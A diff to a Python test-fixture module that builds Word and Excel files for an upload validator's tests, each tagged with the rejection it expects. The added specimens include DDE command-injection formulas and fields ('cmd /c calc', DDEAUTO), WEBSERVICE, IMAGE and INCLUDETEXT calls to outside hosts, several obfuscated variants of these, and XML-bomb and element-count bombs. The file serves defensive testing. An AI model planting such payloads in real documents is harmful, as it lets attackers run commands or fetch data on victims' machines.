@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import html
 import io
+import random
 import struct
 import zipfile
 from collections.abc import Iterator, Mapping
@@ -82,12 +84,27 @@ def _honest() -> Iterator[Specimen]:
         "with_folders": partial(docx, {"word/media/": b"", "docProps/": b""}),
         "in_utf_16": partial(docx, {"word/settings.xml": "<?xml version='1.0'?><settings/>".encode("utf-16")}),
         "written_as_a_stream": _streamed,
+        "with_fields": partial(
+            docx, {"word/document.xml": text_with(field(" PAGE "), field(' HYPERLINK "https://a.cn" '))}
+        ),
+        "about_fields": partial(
+            docx, {"word/document.xml": text_with("<w:t>DDE INCLUDETEXT</w:t>", "<w:instrText>DDE")}
+        ),
+        "with_fraction": partial(docx, {"word/document.xml": text_with("<m:f><m:t>|x|</m:t></m:f>")}),
         "long": lambda: docx({"word/document.xml": _long_text()}),
     }
     for key, build in texts.items():
         yield clean(f"docx_{key}", "说明.docx", build, AttachmentKind.DOCX)
     sheets: dict[str, Build] = {
         "plain": xlsx,
+        "with_formulas": partial(
+            xlsx,
+            {
+                "xl/worksheets/sheet1.xml": sheet_with(
+                    "SUM(A1:A9)", 'HYPERLINK("https://example.com","a|b")', "'a|b'!A1", '"DDE("', "WEBSERVICES"
+                )
+            },
+        ),
         "with_printer_settings": partial(xlsx, {"xl/printerSettings/printerSettings1.bin": b"\0" * 300}),
     }
     for key, build in sheets.items():
@@ -126,7 +143,20 @@ def _reaching_outside() -> Iterator[Specimen]:
     for key, (kind, target) in rows.items():
         part = {"word/_rels/settings.xml.rels": relations((kind, target, "External"))}
         yield at_inspection(f"docx_external_{key}", "a.docx", partial(docx, part), Rejection.OFFICE_EXTERNAL)
+    for key, text in _fetching_fields().items():
+        build = partial(docx, {"word/document.xml": text})
+        yield at_inspection(f"docx_field_{key}", "a.docx", build, Rejection.OFFICE_EXTERNAL)
+    for key, formula in _FETCHING_FORMULAS.items():
+        build = partial(xlsx, {"xl/worksheets/sheet1.xml": sheet_with(formula)})
+        yield at_inspection(f"xlsx_formula_{key}", "a.xlsx", build, Rejection.OFFICE_EXTERNAL)
     parts: dict[str, Parts] = {
+        "link_named_otherwise": {"xl/_rels/workbook.xml.rels": relations(("externalLink", "a/b.xml", ""))},
+        "connections_named_otherwise": {"xl/_rels/workbook.xml.rels": relations(("connections", "a/b.xml", ""))},
+        "add_in": {"_rels/.rels": relations(("webextensiontaskpanes", "a/b.xml", ""))},
+        "name": {"xl/workbook.xml": "<workbook><definedName>WEBSERVICE(1)</definedName></workbook>"},
+        "picture_in_a_drawing": {"xl/drawings/a.vml": '<xml><v:imagedata src="https://example.com/a.png"/></xml>'},
+        "picture_behind_a_fault": {"xl/drawings/a.vml": '<xml><br></xml><v:imagedata src="//server/a.png"/>'},
+        "picture_in_a_picture": {"xl/media/a.svg": '<svg><image href="https://example.com/a.png"/></svg>'},
         "workbook": {"xl/externalLinks/externalLink1.xml": "<a/>"},
         "connections": {"xl/connections.xml": "<a/>"},
         "query": {"xl/queryTables/queryTable1.xml": "<a/>"},
@@ -159,6 +189,9 @@ def _declaring() -> Iterator[Specimen]:
         "in_utf_16": {"word/document.xml": leak.replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")},
         "in_relations": {"word/_rels/document.xml.rels": leak},
         "in_properties": {"docProps/core.xml": laughs},
+        "behind_a_long_comment": {"word/document.xml": f"<!--{' ' * 70_000}-->{laughs}"},
+        "in_a_part_called_otherwise": {"word/document.bin": laughs},
+        "in_a_drawing": {"word/a.vml": laughs},
     }
     for key, more in parts.items():
         yield at_inspection(f"docx_declaration_{key}", "a.docx", partial(docx, more), Rejection.OFFICE_MARKUP)
@@ -176,6 +209,11 @@ def _bombs() -> Iterator[Specimen]:
     }
     for key, build in builds.items():
         yield at_upload(f"docx_bomb_{key}", "a.docx", build, Rejection.UNPACKED_SIZE)
+
+    def elements() -> bytes:
+        return docx({f"word/{at}.xml": _many_elements(at) for at in range(2)})
+
+    yield at_inspection("docx_5_million_elements", "a.docx", elements, Rejection.TOO_COMPLEX)
     many = partial(docx, {f"word/media/{at}.xml": b"" for at in range(2_001)})
     yield at_upload("docx_2001_parts", "a.docx", many, Rejection.ENTRY_COUNT)
     yield at_upload("docx_directory_of_2_mb", "a.docx", _long_directory, Rejection.ENTRY_COUNT)
@@ -221,6 +259,51 @@ def _broken() -> Iterator[Specimen]:
     yield at_inspection("docx_relations_garbled", "a.docx", partial(docx, relation), Rejection.DAMAGED)
 
 
+def text_with(*runs: str) -> str:
+    """Return a document with these runs, as far as they are well-formed."""
+    closed = (f"{run}</w:instrText>" if run.startswith("<w:instrText>") else run for run in runs)
+    return f'<w:document xmlns:w="w" xmlns:m="m">{"".join(f"<w:r>{run}</w:r>" for run in closed)}</w:document>'
+
+
+def field(*instruction: str, begin: str = '<w:fldChar w:fldCharType="begin"/>') -> str:
+    """Return a field whose instruction is spread over runs."""
+    texts = "".join(f"</w:r><w:r><w:instrText>{part}</w:instrText>" for part in instruction)
+    return f'{begin}{texts}</w:r><w:r><w:fldChar w:fldCharType="end"/>'
+
+
+def sheet_with(*formulas: str) -> str:
+    """Return a sheet with these formulas."""
+    cells = "".join(f"<c><f>{html.escape(formula, quote=False)}</f></c>" for formula in formulas)
+    return f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>"
+
+
+_FETCHING_FORMULAS = {
+    "webservice": '_xlfn.WEBSERVICE("https://example.com/?"&A1)',
+    "webservice_within": 'IF(A1>0,WebService ("https://example.com"),1)',
+    "image": '_xlfn.IMAGE("https://example.com/a.png")',
+    "dde": "cmd|'/c calc'!A0",
+    "dde_quoted": "'cmd'|'/c calc'!A0",
+    "dde_function": 'DDE("soffice";"a.ods";"A1")',
+    "rtd": 'RTD("a.b","server","x")',
+}
+
+
+def _fetching_fields() -> dict[str, str]:
+    simple = '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://example.com/a.png&quot; "/>'
+    return {
+        "dde": text_with(field(r" DDE cmd /c calc ")),
+        "dde_at_once": text_with(field("DDEAUTO cmd")),
+        "text": text_with(field(' INCLUDETEXT "file:///C:/a.docx"')),
+        "picture": text_with(simple),
+        "spread_over_runs": text_with(field(" inc", "lude", 'Text "a.docx"')),
+        "in_a_field": text_with(f"{field(' IF 1 = 1 ')}{field(' INCLUDETEXT a ')}"),
+        "spelled_in_numbers": text_with(field("&#68;&#68;E cmd")),
+        "after_a_comment": text_with(field("D<!-- -->DE cmd")),
+        "far_behind": text_with("<w:t>" + "小区" * 100_000 + "</w:t>", field("DDE cmd")),
+        "under_another_prefix": text_with(field("DDE cmd")).replace("w:", "x:"),
+    }
+
+
 def _text_parts() -> dict[str, bytes | str]:
     return {
         "[Content_Types].xml": content_types(WORD),
@@ -262,6 +345,12 @@ def _streamed() -> bytes:
         for name, content in _text_parts().items():
             archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
     return pipe.getvalue()
+
+
+def _many_elements(seed: int) -> str:
+    """Return two and a half million elements of different names, which pack a hundredfold and no better."""
+    names = random.Random(seed).choices("abcdefgh", k=2_500_000)
+    return f"<a>{''.join(f'<{name}/>' for name in names)}</a>"
 
 
 def _overlapping() -> bytes:
